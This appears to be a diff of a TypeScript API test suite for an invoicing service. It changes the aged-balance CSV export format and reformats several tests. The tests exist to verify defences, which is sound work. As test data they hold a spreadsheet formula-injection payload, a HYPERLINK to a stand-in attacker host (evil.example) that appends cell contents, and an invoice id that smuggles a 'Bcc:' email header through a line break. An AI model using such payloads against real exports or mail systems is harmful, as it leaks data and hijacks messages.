@@ -70,11 +70,11 @@ describe('the aged balance CSV, which the read-only role downloads', () => {
     });
     expect(res.status).toBe(200);
     const lines = res.text.split('\r\n');
-    expect(lines).toContain(`C3,'-1+2,1,0.00,0.00,40.00,0.00,0.00,40.00`);
+    expect(lines).toContain(`C3;'-1+2;1;0,00;0,00;40,00;0,00;0,00;40,00;EUR;2026-11-23`);
     expect(lines).toContain(
-      `C0,"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")",1,0.00,0.00,10.00,0.00,0.00,10.00`,
+      `C0;"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")";1;0,00;0,00;10,00;0,00;0,00;10,00;EUR;2026-11-23`,
     );
-    for (const line of lines.slice(1)) expect(line.split(',')[1] ?? '').not.toMatch(/^"?[=+\-@]/);
+    for (const line of lines.slice(1)) expect(line.split(';')[1] ?? '').not.toMatch(/^"?[=+\-@]/);
   });
 
   it('answers even when the amounts add up past 2^53 cents (it answered 500 to everyone)', async () => {
@@ -84,7 +84,7 @@ describe('the aged balance CSV, which the read-only role downloads', () => {
     givenLedger([Customer.parse({ customerId: 'C1', name: 'Big' })], many);
     const res = await call('GET', '/reports/aged-balance', { query: { asOf: '2026-11-23', format: 'csv' } });
     expect(res.status).toBe(200);
-    expect(res.text).toContain('TOTAL,EUR 2026-11-23,901,');
+    expect(res.text).toContain('TOTAL;;901;');
   });
 });
 
@@ -226,7 +226,8 @@ describe('ids and names never carry a line break into an e-mail subject', () => 
 
   it('an import row whose invoice id holds a line break is rejected with its reason', async () => {
     const csv =
-      'invoice_id,customer_id,customer_name,customer_iban,amount,currency,issue_date,due_date\r\n"F1\r\nBcc: x",C1,Dupont,,10.00,EUR,2026-11-01,2026-11-30\r\n';
+      'invoice_id,customer_id,customer_name,customer_iban,amount,currency,issue_date,due_date\r\n"F1\r\nBcc: ' +
+      'x",C1,Dupont,,10.00,EUR,2026-11-01,2026-11-30\r\n';
     const res = await call('POST', '/invoices/import', { rawBody: csv, headers: { 'content-type': 'text/csv' } });
     expect(res.status).toBe(200);
     expect(res.json.rows[0]).toMatchObject({ line: 2, outcome: 'rejected' });
@@ -301,22 +302,25 @@ describe('changes to versioned resources need If-Match', () => {
 });
 
 describe('a manual match', () => {
-  it('listing the same invoice twice is a 400 naming the second entry, before anything is read or written', async () => {
-    const res = await call('POST', '/transactions/T1/match', {
-      body: {
-        allocations: [
-          { invoiceId: 'F1', amountCents: 5000 },
-          { invoiceId: 'F2', amountCents: 100 },
-          { invoiceId: 'F1', amountCents: 5000 },
-        ],
-      },
-    });
-    expect(res.status).toBe(400);
-    expect(fields(res)).toEqual(['body:allocations.2.invoiceId']);
-    expect(res.json.detail).toContain('already listed at allocations.0');
-    expect(ddb.commandCalls(GetCommand)).toHaveLength(0);
-    expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
-  });
+  it(
+    'listing the same invoice twice is a 400 naming the second entry, before anything is read or ' + 'written',
+    async () => {
+      const res = await call('POST', '/transactions/T1/match', {
+        body: {
+          allocations: [
+            { invoiceId: 'F1', amountCents: 5000 },
+            { invoiceId: 'F2', amountCents: 100 },
+            { invoiceId: 'F1', amountCents: 5000 },
+          ],
+        },
+      });
+      expect(res.status).toBe(400);
+      expect(fields(res)).toEqual(['body:allocations.2.invoiceId']);
+      expect(res.json.detail).toContain('already listed at allocations.0');
+      expect(ddb.commandCalls(GetCommand)).toHaveLength(0);
+      expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
+    },
+  );
 
   it('still applies a match listing distinct invoices', async () => {
     const txn = StoredTransaction.parse({
@@ -371,11 +375,14 @@ describe('other free text and dates that reach workflows and e-mails', () => {
     expect(fields(res)).toEqual(['body:pdfKey']);
   });
 
-  it('a payment promise more than a year away is refused: its workflow would outlive a Standard execution', async () => {
-    ddb.on(GetCommand).resolves({ Item: invoiceItem(inv('F1')) });
-    const res = await call('POST', '/invoices/F1/promise', { body: { until: '9999-12-31' } });
-    expect(res.status).toBe(400);
-    expect(fields(res)).toEqual(['body:until']);
-    expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
-  });
+  it(
+    'a payment promise more than a year away is refused: its workflow would outlive a Standard ' + 'execution',
+    async () => {
+      ddb.on(GetCommand).resolves({ Item: invoiceItem(inv('F1')) });
+      const res = await call('POST', '/invoices/F1/promise', { body: { until: '9999-12-31' } });
+      expect(res.status).toBe(400);
+      expect(fields(res)).toEqual(['body:until']);
+      expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
+    },
+  );
 });
